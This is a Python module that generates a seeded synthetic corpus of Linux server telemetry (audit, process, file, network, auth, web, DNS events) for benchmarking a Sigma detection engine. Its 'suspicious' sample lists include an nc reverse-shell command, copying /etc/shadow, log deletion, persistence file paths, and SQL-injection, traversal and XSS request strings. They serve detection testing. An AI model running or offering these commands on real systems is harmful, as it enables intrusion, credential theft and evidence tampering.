"""A mixed corpus for the engine benchmark: every logsource the SigmaHQ Linux rules and the
shipped rules route on that a busy web/app server produces all the time.

Proportions (of events) are those of such a server's telemetry, where auditd is the most
verbose host source (one event per record, about five records per exec), process executions
the next, then the web server's access log:

| logsource | share | built from |
|---|---|---|
| linux/auditd | ~25 % | real audit.log lines (SYSCALL, EXECVE, CWD, PATH, PROCTITLE) |
| linux/process_creation | 25 % | exec events (60 % with a unique argument) |
| vedette/web_access | 12 % | real combined-format access-log lines through ``web_parse`` |
| linux/file_event | 10 % | FIM / file writes |
| linux/network_connection | 8 % | outbound and inbound connections of local processes |
| linux/sshd, sudo, su, cron, auth | 15 % | real syslog lines through the auth parser (¹) |
| vedette/network_packet | 4 % | TCP control packets (SYNs, some from scanners) |
| vedette/dns | 1 % | DNS queries seen on the wire |

(¹) other programs' syslog lines (systemd's here) are routed as service ``auth``: the agent
produces no ``syslog`` service.

Audit lines go through ``audit_parse``, syslog lines through ``auth_parse``, access-log lines
through ``web_parse``, as in the agent. Not in the mix: logsources produced once per interval
or on rare changes (host_metrics, listening sockets, kernel modules, capture health …), whose
rules see a handful of events a minute.

The same seed gives the same corpus; about 2 % of each source is suspicious (what rules exist
for), the rest routine.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

from agent.collectors.parsers.audit import group_events, parse_record
from agent.collectors.parsers.auth import build_auth_event
from agent.collectors.parsers.web import web_event
from agent.events import Event, LogSource

T0 = 1_767_225_600.0
PROC = LogSource("linux", "process_creation")
FILE = LogSource("linux", "file_event")
NET = LogSource("linux", "network_connection")
PACKET = LogSource("vedette", "network_packet")
DNS = LogSource("vedette", "dns")

_EXES = [
    ("/usr/bin/ls", "ls -la /var/log"), ("/usr/bin/git", "git status --short"),
    ("/usr/bin/python3", "python3 manage.py migrate"), ("/usr/sbin/nginx", "nginx -s reload"),
    ("/usr/bin/cat", "cat /etc/os-release"), ("/usr/bin/grep", "grep -r TODO src"),
    ("/usr/bin/bash", "bash -c 'make test'"), ("/usr/bin/ssh", "ssh deploy@198.18.0.10 uptime"),
    ("/usr/bin/docker", "docker ps -a"), ("/usr/bin/tar", "tar czf /var/backups/w.tgz /var/www"),
    ("/usr/bin/find", "find /srv -mtime +7 -delete"), ("/usr/bin/id", "id -u"),
    ("/usr/bin/curl", "curl -fsS http://127.0.0.1:9787/metrics"), ("/usr/bin/awk", "awk -F:"),
]
_BAD_EXES = [
    ("/usr/bin/nc", "nc 198.18.9.9 4444 -e /bin/bash"), ("/usr/bin/cp", "cp /etc/shadow /tmp/s"),
    ("/usr/bin/rm", "rm -f /var/log/syslog"), ("/usr/bin/base64", "base64 -d /tmp/x.b64"),
    ("/usr/bin/python3.11", "python3 -m http.server 8000"), ("/sbin/telinit", "telinit 6"),
]
_FILES = ["/var/www/html/index.php", "/var/lib/app/cache/x.json", "/tmp/session-{n}",
          "/home/deploy/.bash_history", "/var/log/nginx/access.log", "/srv/app/releases/{n}/app.py"]
_BAD_FILES = ["/etc/cron.d/backdoor", "/etc/sudoers.d/x", "/root/.ssh/authorized_keys",
              "/etc/ld.so.preload", "/usr/lib/systemd/system/evil.service"]
_SSHD = [
    "Accepted publickey for deploy from 198.18.0.{a} port {p} ssh2: ED25519 SHA256:abc",
    "Failed password for invalid user admin{a} from 198.18.3.{a} port {p} ssh2",
    "Connection closed by 198.18.1.{a} port {p} [preauth]",
    "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
    "Disconnected from user deploy 198.18.0.{a} port {p}",
]
_SUDO = [
    "deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app",
    "alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update",
    "bob : TTY=pts/2 ; PWD=/tmp ; USER=#-1 ; COMMAND=/bin/bash",
    "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)",
]
_CRON = [
    "(root) CMD (/usr/lib/php/sessionclean)", "(deploy) CMD (/srv/app/bin/job --run {n})",
    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
    "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
]
_SU = [
    "pam_unix(su:session): session opened for user root(uid=0) by deploy(uid=1000)",
    "(to root) deploy on pts/0", "pam_unix(su:session): session closed for user root",
]
_SYSLOG = [
    "Started Daily apt download activities.", "app.service: Consumed {n}ms CPU time.",
    "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.18.4.{a} DST=198.18.0.1 PROTO=TCP DPT=23",
    "Reached target Timers.",
]


def _audit_group(rnd: random.Random, serial: int, ts: float) -> list[Event]:
    exe, cmd = rnd.choice(_BAD_EXES) if rnd.random() < 0.02 else rnd.choice(_EXES)
    args = cmd.split()
    stamp = f"audit({ts:.3f}:{serial})"
    a = " ".join(f'a{i}="{arg}"' for i, arg in enumerate(args))
    lines = [
        f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 "
        f"a2=55d3 a3=0 items=2 ppid={rnd.randrange(2, 30000)} pid={rnd.randrange(2, 30000)} "
        f"auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
        f'comm="{exe.rsplit("/", 1)[1]}" exe="{exe}" key="exec"',
        f"type=EXECVE msg={stamp}: argc={len(args)} {a}",
        f'type=CWD msg={stamp}: cwd="/srv/app"',
        f'type=PATH msg={stamp}: item=0 name="{exe}" inode=1234 dev=08:01 mode=0100755 '
        "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        f"type=PROCTITLE msg={stamp}: proctitle={cmd.encode().hex().upper()}",
    ]
    records = [r for r in (parse_record(line) for line in lines) if r is not None]
    return group_events(records)


def _auth(rnd: random.Random, ts: float, n: int) -> Event:
    program, lines = rnd.choices(
        [("sshd", _SSHD), ("sudo", _SUDO), ("su", _SU), ("CRON", _CRON),
         ("systemd", _SYSLOG)],
        weights=[8, 3, 0.3, 5, 2])[0]
    message = rnd.choice(lines).format(a=rnd.randrange(1, 250), p=rnd.randrange(1024, 65535),
                                       n=n)
    line = f"Jan  1 00:00:00 web1 {program}[{rnd.randrange(2, 30000)}]: {message}"
    return build_auth_event(ts, "web1", program, 1234, message, line)


def _process(rnd: random.Random, ts: float, n: int) -> Event:
    exe, cmd = rnd.choice(_BAD_EXES) if rnd.random() < 0.02 else rnd.choice(_EXES)
    if rnd.random() < 0.6:
        cmd = f"{cmd} /tmp/job-{n:x}"
    return Event(ts, PROC, {
        "process.executable": exe, "process.command_line": cmd,
        "process.name": exe.rsplit("/", 1)[1], "process.pid": 1000 + n % 30000,
        "process.parent.executable": rnd.choice(_EXES)[0],
        "process.args": cmd.split(), "user.name": rnd.choice(["root", "www-data", "deploy"]),
    })


def _file(rnd: random.Random, ts: float, n: int) -> Event:
    path = (rnd.choice(_BAD_FILES) if rnd.random() < 0.02 else rnd.choice(_FILES)).format(n=n)
    return Event(ts, FILE, {
        "file.path": path, "file.name": path.rsplit("/", 1)[1],
        "process.executable": rnd.choice(_EXES)[0], "event.action": "modified",
        "user.name": "root",
    })


def _net(rnd: random.Random, ts: float, n: int) -> Event:
    bad = rnd.random() < 0.02
    return Event(ts, NET, {
        "destination.ip": f"198.18.{rnd.randrange(256)}.{rnd.randrange(1, 255)}",
        "destination.port": rnd.choice((4444, 1337, 31337)) if bad else rnd.choice(
            (443, 80, 5432, 6379, 53)),
        "source.ip": "198.18.0.1", "source.port": rnd.randrange(32768, 61000),
        "network.transport": "tcp", "network.direction": "outbound",
        "network.initiated": True,
        "process.executable": rnd.choice(_BAD_EXES if bad else _EXES)[0], "user.name": "deploy",
    })


_PAGES = ["/", "/index.php", "/shop/item.php?id={n}", "/static/app.{a}.js", "/api/v1/cart",
          "/login", "/images/p{a}.webp", "/search?q=red+shoes&page={a}", "/wp-login.php"]
_BAD_PAGES = ["/index.php?id=1%27%20union%20select%201,2--", "/../../etc/passwd",
              "/.env", "/cgi-bin/luci;stok=/locale", "/?q=<script>alert(1)</script>"]
_AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
           "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
           "curl/8.5.0", "Googlebot/2.1 (+http://www.google.com/bot.html)"]


def _web(rnd: random.Random, ts: float, n: int) -> Event | None:
    bad = rnd.random() < 0.02
    page = (rnd.choice(_BAD_PAGES) if bad else rnd.choice(_PAGES)).format(
        n=n, a=rnd.randrange(100))
    method, status = ("POST", rnd.choice((200, 302, 401))) if page == "/login" else (
        "GET", rnd.choice((200, 200, 200, 304, 404)))
    agent = "sqlmap/1.8" if bad and rnd.random() < 0.5 else rnd.choice(_AGENTS)
    line = (f"198.18.{rnd.randrange(4, 8)}.{rnd.randrange(1, 255)} - - [01/Jan/2026:00:00:00 "
            f'+0000] "{method} {page} HTTP/1.1" {status} {rnd.randrange(0, 40000)} "-" '
            f'"{agent}"')
    event = web_event(line)
    return None if event is None else Event(ts, event.logsource, event.fields)


def _packet(rnd: random.Random, ts: float) -> Event:
    scan = rnd.random() < 0.1
    return Event(ts, PACKET, {
        "source.ip": f"198.18.{rnd.randrange(8, 12)}.{rnd.randrange(1, 255)}",
        "source.port": rnd.randrange(1024, 65535), "destination.ip": "198.18.0.1",
        "destination.port": rnd.randrange(1, 1024) if scan else rnd.choice((22, 80, 443)),
        "network.transport": "tcp", "network.direction": "inbound", "network.type": "ipv4",
        "tcp.flags.syn": True, "tcp.flags.ack": rnd.random() < 0.3, "tcp.flags.rst": False,
        "event.action": "tcp_syn",
    })


def _dns(rnd: random.Random, ts: float, n: int) -> Event:
    name = rnd.choice(["api.example.com", "deb.debian.org", "pool.ntp.org",
                       f"x{n:x}.cdn.example.net", "registry.npmjs.org"])
    return Event(ts, DNS, {
        "source.ip": "198.18.0.1", "source.port": rnd.randrange(32768, 61000),
        "destination.ip": "198.18.0.53", "destination.port": 53, "network.transport": "udp",
        "network.type": "ipv4", "dns.type": "query", "dns.id": rnd.randrange(65536),
        "dns.question.name": name, "dns.question.type": rnd.choice(("A", "AAAA", "A", "HTTPS")),
        "dns.question.registered_domain": ".".join(name.split(".")[-2:]),
        "dns.question.subdomain_length": len(name.split(".")[0]),
        "dns.question.name_length": len(name),
    })


def mixed_events(n: int, seed: int = 7) -> list[Event]:
    """``n`` events of the mix above, in time order (1 ms apart)."""
    rnd = random.Random(seed)
    out: list[Event] = []
    serial = 1000
    kinds = ["audit", "process", "file", "net", "auth", "web", "packet", "dns"]
    # share / events per draw (an audited exec is ~5 records)
    weights = [5, 25, 10, 8, 15, 12, 4, 1]
    while len(out) < n:
        ts = T0 + len(out) * 1e-3
        kind = rnd.choices(kinds, weights)[0]
        if kind == "audit":
            serial += 1
            out.extend(_audit_group(rnd, serial, ts))
        elif kind == "process":
            out.append(_process(rnd, ts, len(out)))
        elif kind == "file":
            out.append(_file(rnd, ts, len(out)))
        elif kind == "net":
            out.append(_net(rnd, ts, len(out)))
        elif kind == "web":
            web = _web(rnd, ts, len(out))
            if web is not None:
                out.append(web)
        elif kind == "packet":
            out.append(_packet(rnd, ts))
        elif kind == "dns":
            out.append(_dns(rnd, ts, len(out)))
        else:
            out.append(_auth(rnd, ts, len(out)))
    return out[:n]


def shares(events: list[Event]) -> dict[str, float]:
    """The measured share of each logsource (for the benchmark's note)."""
    counts: dict[str, int] = {}
    for e in events:
        key = "/".join(p for p in e.logsource if p)
        counts[key] = counts.get(key, 0) + 1
    return {k: round(v / len(events), 3) for k, v in sorted(counts.items())}


def chunks(events: list[Event], size: int = 100_000) -> Iterator[list[Event]]:
    for i in range(0, len(events), size):
        yield events[i:i + size]
